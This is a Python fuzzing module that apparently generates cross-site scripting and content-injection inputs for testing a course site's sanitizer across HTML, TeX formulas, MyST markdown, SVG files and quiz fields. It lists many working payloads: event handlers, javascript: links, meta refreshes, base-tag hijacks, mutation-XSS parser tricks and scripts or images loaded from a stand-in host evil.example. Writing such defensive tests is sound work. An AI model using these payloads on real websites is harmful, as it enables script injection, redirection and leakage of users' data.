"""Inputs made to run something, to lead a reader away, or to ask a third party: for every place that takes text."""

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

#: What an attack calls once it runs.
CALL = "hit()"
#: A third party.
EVIL = "https://evil.example"
#: One attack each, by what must be refused.
ATTACKS = {
    "script": f"<script>{CALL}</script>",
    "script of others": f"<script src={EVIL}/x.js></script>",
    "handler": f'<img src=x onerror="{CALL}">',
    "handler without quotes": f'<img/src="x"/onerror="{CALL}">',
    "handler that starts by itself": f"<details open ontoggle={CALL}>x</details>",
    "handler with focus": f"<input autofocus onfocus={CALL}>",
    "handler in a drawing": f"<svg onload={CALL}></svg>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "refresh without spaces": f'<meta/http-equiv="refresh"/content="0;url={EVIL}">',
    "base": f"<base href={EVIL}>",
    "frame": f'<iframe src="javascript:parent.{CALL}"></iframe>',
    "frame with a page": f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{CALL}</script>"></object>',
    "embed": f"<embed src={EVIL}/x.swf>",
    "link that runs": f'<a href="javascript:{CALL}">x</a>',
    "link that runs, hidden": f'<a href=" jAva&#x0A;script&colon;{CALL}">x</a>',
    "link to a page in itself": f'<a href="data:text/html,<script>{CALL}</script>">x</a>',
    "link in a drawing": f'<svg><a xlink:href="javascript:{CALL}"><text y=9>x</text></a></svg>',
    "link that changes": f'<svg><a><animate attributeName=href values="javascript:{CALL}" /><text>x</text></a></svg>',
    "form": f"<form action={EVIL}><button>x</button></form>",
    "button that sends": f"<button formaction=javascript:{CALL}>x</button>",
    "style": f"<style>body{{background:url({EVIL}/x)}}</style>",
    "style of an element": f'<p style="background:url({EVIL}/x)">x</p>',
    "style sheet": f"<link rel=stylesheet href={EVIL}/x.css>",
    "picture of others": f"<img src={EVIL}/x.png>",
    "pictures of others": f'<img srcset="{EVIL}/x.png 1x">',
    "picture of others, slashes": "<img src=\\\\evil.example/x.png>",
    "film of others": f"<video poster={EVIL}/x.png src=//evil.example/x.mp4 autoplay></video>",
    "fill of others": f'<svg><path d="M0 0h9v9z" fill="url({EVIL}/x.svg#a)"/></svg>',
    "drawing of others": f'<svg><use href="{EVIL}/x.svg#a"/><image href="{EVIL}/x.png"/></svg>',
    "HTML in a drawing": f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "HTML in a formula": f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    "template": f"<div><template shadowrootmode=open><img src=x onerror={CALL}></template></div>",
    "parsed twice": f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></p></noscript>',
    "parsed twice, style": f"<svg><style><img src=x onerror={CALL}></style></svg>",
    "parsed twice, table": f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></table></math>",
    "comment": f"<!--><img src=x onerror={CALL}>-->",
    "end of the article": f"</p></div></section></article></main><img src=x onerror={CALL}>",
    "element of ours": f'<course-explorable data-explorable="x" data-source="{EVIL}/x.js">x</course-explorable>',
    "ping": f"<a href=x ping={EVIL}>x</a>",
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
}
#: What ends a string, an element or a block, in one of the languages that text passes through.
BREAKS = ["", "", '"', "'", ">", "'>", '">', "-->", "]]>", "</title>", "</script>", "</textarea>", "</math>", "</svg>"]
BREAKS += ["`", "*", "|", "\\", "&lt;", "&#60;", "{", "}", "%", "\u2028", "\u00a0", " x=", "[a](", ")"]

_words = st.text("abcXYZ <>&\"'/=;#(){}é漢", max_size=6)


@st.composite
def attacks(draw):
    """An attack between what might free it, in any case of letters."""
    attack = draw(st.sampled_from(sorted(ATTACKS.values())))
    change = draw(st.sampled_from([str, str, str, str.upper, str.swapcase, lambda one: one.replace(" ", "\t")]))
    attack = (
        change(attack) if CALL not in attack else attack.replace("<img", change("<img")).replace("<scr", change("<scr"))
    )
    return draw(st.sampled_from(BREAKS)) + draw(_words) + attack + draw(st.sampled_from(BREAKS))


@st.composite
def formulas(draw):
    """TeX with an attack in each place that takes words, names, colours, addresses or numbers."""
    attack = draw(attacks()).replace("$", "").replace("\n", " ")
    form = draw(st.sampled_from(_FORMULAS))
    tail = draw(st.sampled_from(["", "^2", "_{x}", r"\frac{1}{2}", "}", "{", r"\left(", "&", r"\\", "%"]))
    return form.replace("ATTACK", attack) + tail


_FORMULAS = [
    "ATTACK",
    r"\text{ATTACK}",
    r"\textbf{ATTACK}",
    r"\mbox{a $ATTACK$}",
    r"\hbox{ATTACK}",
    r"\operatorname{ATTACK}",
    r"\mathrm{ATTACK}",
    r"\textcolor{ATTACK}{x}",
    r"\color{ATTACK} x",
    r"\colorbox{ATTACK}{x}",
    r"\style{ATTACK}{x}",
    r"\class{ATTACK}{x}",
    rf"\href{{javascript:{CALL}}}{{x}}",
    r"\href{ATTACK}{x}",
    r"\unicode{ATTACK}",
    r"\unicode{x3C}ATTACK",
    r"\hspace{ATTACK}",
    r"\rule{ATTACK}{1em}",
    r"\verb|ATTACK|",
    r"\tag{ATTACK} x",
    r"\begin{matrix} ATTACK & 1 \\ 2 & 3 \end{matrix}",
    r"\begin{ATTACK} x \end{ATTACK}",
    r"\def\a{ATTACK} \a\a",
    r"\newcommand{\a}[1]{\text{#1}} \a{ATTACK}",
    r"\ATTACK",
    r"\text{&#x3C;script&#x3E;ATTACK}",
    r"\sqrt[ATTACK]{ATTACK}",
]


@st.composite
def markdown(draw):
    """A block of MyST with an attack as itself, in a directive, a link, a picture or a formula."""
    attack = draw(attacks())
    line = attack.replace("\n", " ")
    return draw(st.sampled_from(_MARKDOWN)).replace("ATTACK", attack).replace("LINE", line)


_MARKDOWN = [
    "ATTACK",
    "Words ATTACK and words.",
    "**ATTACK**",
    "[words](ATTACK)",
    '[words](<LINE> "LINE")',
    f"[words](javascript:{CALL})",
    f"<javascript:{CALL}>",
    "![LINE](LINE)",
    f'![LINE]({EVIL}/x.png "LINE")',
    "[words][one]\n\n[one]: <LINE> 'LINE'",
    "Note[^LINE].",
    "> ATTACK",
    "- ATTACK",
    "Term\n: ATTACK",
    "[LINE]{.LINE #LINE title='LINE'}",
    "```{note} LINE\nATTACK\n```",
    "```{raw} html\nATTACK\n```",
    "```{figure} LINE\n:alt: LINE\n:target: LINE\n\nATTACK\n```",
    f"```{{image}} {EVIL}/x.png\n:alt: LINE\n:target: javascript:{CALL}\n```",
    "```{code-block} python\n:caption: LINE\n\nATTACK\n```",
    "```{list-table} LINE\n\n* - ATTACK\n```",
    f"```{{eval-rst}}\n.. raw:: html\n\n   LINE\n\n`x <javascript:{CALL}>`_\n```",
    f"```{{eval-rst}}\n.. meta::\n   :http-equiv=refresh: 0; {EVIL}\n```",
    f"```{{card}} LINE\n:link: javascript:{CALL}\n\nATTACK\n```",
    f"```{{button-link}} javascript:{CALL}\nLINE\n```",
    "<details>\n<summary>ATTACK</summary>\n\nATTACK\n\n</details>",
    '<div title="\n\nATTACK\n\n">',
    "<svg>\n\nATTACK\n\n</svg>",
    "$$\nATTACK\n$$",
]


@st.composite
def drawings(draw):
    """An SVG file with attacks in it."""
    root = draw(st.sampled_from(["", f' onload="{CALL}"', ' xmlns:xlink="http://www.w3.org/1999/xlink"']))
    return f'<svg xmlns="http://www.w3.org/2000/svg"{root} viewBox="0 0 9 9">{draw(attacks())}</svg>'


@st.composite
def questions(draw):
    """A question that the reader of quizzes may take: attacks as words and in formulas, wherever words are written."""
    words = [draw(st.one_of(attacks(), attacks().map(_in_formula))) for _ in range(5)]
    ask, option, why, hint, source = words
    choices = [{"text": f"Alpha {option}", "correct": True, "why": why}, {"text": f"Omega {option}", "why": why}]
    return {"ask": ask, "choices": choices, "hints": [hint], "source": source}


def _in_formula(attack):
    return "$\\text{" + "".join(sign for sign in attack if sign not in "\\{}$%\n") + "}$"


def generated(strategy, count):
    """Let hypothesis make inputs for one build: so many, in one list.

    Parameters
    ----------
    strategy : hypothesis.strategies.SearchStrategy
        What to make.
    count : int
        How many, at most.
    """
    found = []

    @settings(
        max_examples=count,
        phases=[Phase.generate],
        database=None,
        suppress_health_check=list(HealthCheck),
        deadline=None,
    )
    @given(strategy)
    def gather(one):
        found.append(one)

    gather()
    return found
